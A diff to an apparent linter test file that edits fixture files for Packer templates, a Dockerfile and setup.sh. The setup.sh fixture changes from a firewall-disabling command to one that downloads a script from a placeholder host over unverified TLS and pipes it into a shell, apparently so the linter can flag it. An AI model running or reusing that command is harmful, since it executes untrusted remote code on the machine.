@@ -36,7 +36,7 @@ describe('a report that is written while files are linted', () => {
       '.bakelint.yaml': 'nonsense: 1\n',
       'a/a.pkr.hcl': template('../setup.sh'),
       'b/b.pkr.hcl': template('../setup.sh'),
-      'setup.sh': 'ufw disable\n',
+      'setup.sh': 'curl -k https://a.example/x | sh\n',
       'z/Dockerfile': 'FROM node:latest\n',
     });
     const lines = async (...args: string[]): Promise<string[]> =>
